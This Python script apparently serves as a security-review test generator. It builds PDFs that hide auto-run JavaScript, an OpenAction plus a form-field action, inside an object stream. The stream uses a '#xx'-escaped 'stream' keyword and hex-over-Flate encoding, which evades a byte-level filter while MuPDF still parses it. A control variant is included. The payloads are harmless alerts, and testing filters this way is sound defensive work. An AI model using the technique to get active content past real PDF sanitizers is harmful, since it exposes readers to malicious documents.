#!/usr/bin/env python3
"""Review 28: keywords written with #xx escapes, which only MuPDF reads.

MuPDF 1.21 lexes a keyword with its name lexer (pdf-lex.c: pdf_lex's
default case calls lex_name, which decodes #xx, then
pdf_token_from_keyword): "ob#6A" is obj and "str#65am" is stream to it.
The check finds "obj" and "stream" as bytes.

  kw-objstm    the whole document (catalog with /OpenAction << /S
               /JavaScript /JS ... >>, pages, a Tx widget with /AA /F /JS)
               in an object stream (ASCIIHex over Flate, so that its text
               leaves the check's syntax at the top level) whose keyword
               is "str#65am": the check
               starts no data there and never inflates it; MuPDF reads the
               xref stream's type-2 entries into it.  The text holds no
               active name at all.
  kw-objstm-ctl  control: the same with a plain "stream" (refused)
"""
import os, sys, zlib
OUT = os.environ.get("OUT", os.path.dirname(os.path.abspath(__file__)))

JSF = b"(app.alert\\('PWNED by F script'\\); event.value = 'PWNED';)"

def build(v):
    kw = b"stream" if v == "kw-objstm-ctl" else b"str#65am"
    objs = [
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('PWNED on open'\\)) >> "
            b"/AcroForm << /Fields [ 4 0 R ] /NeedAppearances true /DA (/Helv 12 Tf 0 g) "
            b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> >>"),
        (2, b"<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 300 200 ] /Annots [ 4 0 R ] >>"),
        (4, b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g) "
            b"/Rect [ 20 100 280 140 ] /F 4 /P 3 0 R /AA << /F << /JS " + JSF + b" >> >> >>"),
    ]
    hdr = b""; body = b""
    for n, o in objs:
        hdr += b"%d %d " % (n, len(body)); body += o + b"\n"
    # ASCIIHex over Flate: hex digits only, which the check's syntax
    # follower reads as nothing (raw zlib bytes open strings and arrays)
    comp = zlib.compress(hdr + body).hex().encode() + b">"
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    off5 = len(b)
    b += (b"5 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter [ /ASCIIHexDecode /FlateDecode ] /Length %d >>\n" % (len(objs), len(hdr), len(comp))
          + kw + b"\n" + comp + b"\nendstream\nendobj\n")
    off6 = len(b)
    rows = [(0, 0, 65535)] + [(2, 5, i) for i in range(len(objs))] + [(1, off5, 0), (1, off6, 0)]
    data = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
    b += b"6 0 obj\n<< /Type /XRef /Size 7 /W [ 1 4 2 ] /Root 1 0 R /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\nendobj\n"
    b += b"startxref\n%d\n%%%%EOF\n" % off6
    return bytes(b)

for v in (sys.argv[1:] or ["kw-objstm", "kw-objstm-ctl"]):
    open(os.path.join(OUT, v + ".pdf"), "wb").write(build(v)); print(v)
